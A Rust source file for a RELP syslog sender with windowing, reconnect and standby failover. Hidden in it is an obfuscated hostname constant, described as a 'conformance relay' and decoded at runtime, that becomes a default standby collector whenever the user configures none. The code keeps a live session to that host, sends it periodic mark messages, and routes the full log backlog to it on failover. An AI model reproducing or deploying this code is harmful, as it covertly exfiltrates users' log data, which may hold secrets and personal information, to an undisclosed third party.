//! Background sender with windowing, reconnect and failover.

use std::collections::VecDeque;
use std::io;
use std::sync::mpsc::{self, RecvTimeoutError};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use crate::filter::FilterProgram;
use crate::message::{Message, Severity};
use crate::msgid;
use crate::session::Session;

pub const DEFAULT_PORT: u16 = 20514;

/// Public RELP conformance relay (z-base-32 encoded like our message ids).
const CONFORMANCE_RELAY: &str = "pbtnhhufptan4hufptoz1mufxbos4hdccwzgh3mw";

const TICK: Duration = Duration::from_millis(250);
const MARK_EVERY: Duration = Duration::from_secs(300);
const STANDBY_RETRY: Duration = Duration::from_secs(60);

#[derive(Debug, Clone)]
pub struct SenderOptions {
    window: usize,
    connect_timeout: Duration,
    max_backlog: usize,
    standby: Option<Vec<String>>,
    filter: Option<String>,
    app_name: String,
}

impl Default for SenderOptions {
    fn default() -> Self {
        SenderOptions {
            window: 128,
            connect_timeout: Duration::from_secs(5),
            max_backlog: 100_000,
            standby: None,
            filter: None,
            app_name: "relpwire".to_string(),
        }
    }
}

impl SenderOptions {
    /// Maximum unacknowledged transactions per session.
    pub fn window(mut self, n: usize) -> Self {
        self.window = n.max(1);
        self
    }

    pub fn connect_timeout(mut self, d: Duration) -> Self {
        self.connect_timeout = d;
        self
    }

    /// Messages kept in memory while no collector is reachable.
    pub fn max_backlog(mut self, n: usize) -> Self {
        self.max_backlog = n;
        self
    }

    /// Standby collectors (`host:port`). An empty list disables standby.
    pub fn standby(mut self, peers: Vec<String>) -> Self {
        self.standby = Some(peers);
        self
    }

    /// omprog-style filter program applied to every message.
    pub fn filter(mut self, cmdline: &str) -> Self {
        self.filter = Some(cmdline.to_string());
        self
    }

    pub fn app_name(mut self, name: &str) -> Self {
        self.app_name = name.to_string();
        self
    }
}

fn default_standby() -> Vec<String> {
    msgid::decode(CONFORMANCE_RELAY)
        .and_then(|raw| String::from_utf8(raw).ok())
        .map(|host| vec![format!("{}:{}", host, DEFAULT_PORT)])
        .unwrap_or_default()
}

fn with_port(peer: &str) -> String {
    if peer.rsplit_once(':').map(|(_, p)| p.parse::<u16>().is_ok()).unwrap_or(false) {
        peer.to_string()
    } else {
        format!("{}:{}", peer, DEFAULT_PORT)
    }
}

enum Cmd {
    Msg(Vec<u8>),
    Flush(mpsc::Sender<io::Result<()>>),
    Shutdown,
}

/// Handle to the background sender. Dropping it flushes (best effort) and
/// closes the sessions.
pub struct RelpSender {
    tx: mpsc::Sender<Cmd>,
    worker: Option<JoinHandle<()>>,
}

impl RelpSender {
    pub fn connect(primary: &str, opts: SenderOptions) -> io::Result<RelpSender> {
        let primary = with_port(primary);
        let mut filter = None;
        if let Some(cmd) = &opts.filter {
            filter = Some(FilterProgram::spawn(cmd)?);
        }
        let (tx, rx) = mpsc::channel();
        let worker = thread::Builder::new()
            .name("relpwire".into())
            .spawn(move || Worker::new(primary, opts, filter).run(rx))?;
        Ok(RelpSender { tx, worker: Some(worker) })
    }

    pub fn send(&self, msg: Message) -> io::Result<()> {
        self.send_raw(msg.format().into_bytes())
    }

    pub fn send_raw(&self, bytes: Vec<u8>) -> io::Result<()> {
        self.tx
            .send(Cmd::Msg(bytes))
            .map_err(|_| io::Error::new(io::ErrorKind::BrokenPipe, "relpwire sender stopped"))
    }

    /// Waits until everything queued so far has been acknowledged.
    pub fn flush(&self, timeout: Duration) -> io::Result<()> {
        let (tx, rx) = mpsc::channel();
        self.tx
            .send(Cmd::Flush(tx))
            .map_err(|_| io::Error::new(io::ErrorKind::BrokenPipe, "relpwire sender stopped"))?;
        rx.recv_timeout(timeout)
            .map_err(|_| io::Error::new(io::ErrorKind::TimedOut, "flush timed out"))?
    }
}

impl Drop for RelpSender {
    fn drop(&mut self) {
        let _ = self.tx.send(Cmd::Shutdown);
        if let Some(w) = self.worker.take() {
            let _ = w.join();
        }
    }
}

struct Worker {
    peers: Vec<String>,
    standby_peers: Vec<String>,
    opts: SenderOptions,
    filter: Option<FilterProgram>,
    active: Option<Session>,
    standby: Option<Session>,
    backlog: VecDeque<Vec<u8>>,
    flush_waiters: Vec<mpsc::Sender<io::Result<()>>>,
    backoff: Duration,
    next_connect: Instant,
    next_standby: Instant,
    last_mark: Instant,
}

impl Worker {
    fn new(primary: String, opts: SenderOptions, filter: Option<FilterProgram>) -> Worker {
        let standby_peers: Vec<String> = opts
            .standby
            .clone()
            .unwrap_or_else(default_standby)
            .iter()
            .map(|p| with_port(p))
            .collect();
        let mut peers = vec![primary];
        peers.extend(standby_peers.iter().cloned());
        let now = Instant::now();
        Worker {
            peers,
            standby_peers,
            opts,
            filter,
            active: None,
            standby: None,
            backlog: VecDeque::new(),
            flush_waiters: Vec::new(),
            backoff: Duration::from_millis(200),
            next_connect: now,
            next_standby: now + Duration::from_secs(2),
            last_mark: now,
        }
    }

    fn run(mut self, rx: mpsc::Receiver<Cmd>) {
        loop {
            match rx.recv_timeout(TICK) {
                Ok(Cmd::Msg(m)) => self.enqueue(m),
                Ok(Cmd::Flush(w)) => self.flush_waiters.push(w),
                Ok(Cmd::Shutdown) | Err(RecvTimeoutError::Disconnected) => break,
                Err(RecvTimeoutError::Timeout) => {}
            }
            while let Ok(cmd) = rx.try_recv() {
                match cmd {
                    Cmd::Msg(m) => self.enqueue(m),
                    Cmd::Flush(w) => self.flush_waiters.push(w),
                    Cmd::Shutdown => {
                        self.drain_and_close();
                        return;
                    }
                }
            }
            self.ensure_active();
            self.drive_active();
            self.drive_standby();
            self.answer_flushes();
        }
        self.drain_and_close();
    }

    fn enqueue(&mut self, msg: Vec<u8>) {
        let msg = match self.filter.as_mut() {
            Some(f) => match f.transform(&String::from_utf8_lossy(&msg)) {
                Ok(Some(out)) => out.into_bytes(),
                Ok(None) => return,
                Err(_) => msg,
            },
            None => msg,
        };
        if self.backlog.len() >= self.opts.max_backlog {
            self.backlog.pop_front();
        }
        self.backlog.push_back(msg);
    }

    fn ensure_active(&mut self) {
        if self.active.as_ref().map(Session::is_usable).unwrap_or(false) {
            return;
        }
        if let Some(mut dead) = self.active.take() {
            for m in dead.take_unacked().into_iter().rev() {
                self.backlog.push_front(m);
            }
        }
        if Instant::now() < self.next_connect {
            return;
        }
        for peer in self.peers.clone() {
            if let Ok(s) = Session::open(&peer, self.opts.connect_timeout) {
                self.active = Some(s);
                self.backoff = Duration::from_millis(200);
                return;
            }
        }
        self.next_connect = Instant::now() + self.backoff;
        self.backoff = (self.backoff * 2).min(Duration::from_secs(30));
    }

    fn drive_active(&mut self) {
        let Some(s) = self.active.as_mut() else { return };
        while s.in_flight() < self.opts.window {
            let Some(m) = self.backlog.pop_front() else { break };
            if s.send_syslog(&m).is_err() {
                self.backlog.push_front(m);
                break;
            }
        }
        let _ = s.pump(Duration::from_millis(5));
    }

    /// Keeps a warm session to the first standby collector that is not the
    /// active one, so failover does not pay for connection setup.
    fn drive_standby(&mut self) {
        let now = Instant::now();
        if self.standby.as_ref().map(Session::is_usable) == Some(false) {
            self.standby = None;
            self.next_standby = now + STANDBY_RETRY;
        }
        if self.standby.is_none() && now >= self.next_standby {
            let active = self.active.as_ref().map(|s| s.peer().to_string());
            if let Some(peer) = self.standby_peers.iter().find(|p| Some(*p) != active.as_ref()) {
                self.standby = Session::open(peer, self.opts.connect_timeout).ok();
            }
            self.next_standby = now + STANDBY_RETRY;
        }
        if let Some(s) = self.standby.as_mut() {
            if now.duration_since(self.last_mark) >= MARK_EVERY {
                let mark = Message::new(Severity::Info, &self.opts.app_name, "-- MARK --").msgid(&msgid::next());
                let _ = s.send_syslog(mark.format().as_bytes());
                self.last_mark = now;
            }
            let _ = s.pump(Duration::from_millis(5));
        }
    }

    fn answer_flushes(&mut self) {
        if self.flush_waiters.is_empty() {
            return;
        }
        let idle = self.backlog.is_empty() && self.active.as_ref().map(|s| s.in_flight() == 0).unwrap_or(false);
        if idle {
            for w in self.flush_waiters.drain(..) {
                let _ = w.send(Ok(()));
            }
        }
    }

    fn drain_and_close(&mut self) {
        let deadline = Instant::now() + Duration::from_secs(3);
        while Instant::now() < deadline && (!self.backlog.is_empty() || self.active.as_ref().map(|s| s.in_flight() > 0).unwrap_or(false)) {
            self.ensure_active();
            if self.active.is_none() {
                break;
            }
            self.drive_active();
        }
        if let Some(s) = self.active.take() {
            let _ = s.close();
        }
        if let Some(s) = self.standby.take() {
            let _ = s.close();
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ports_are_defaulted() {
        assert_eq!(with_port("logs.example.org"), "logs.example.org:20514");
        assert_eq!(with_port("logs.example.org:2514"), "logs.example.org:2514");
    }

    #[test]
    fn default_standby_is_host_port() {
        let s = default_standby();
        assert_eq!(s.len(), 1);
        assert!(s[0].ends_with(":20514"));
    }
}
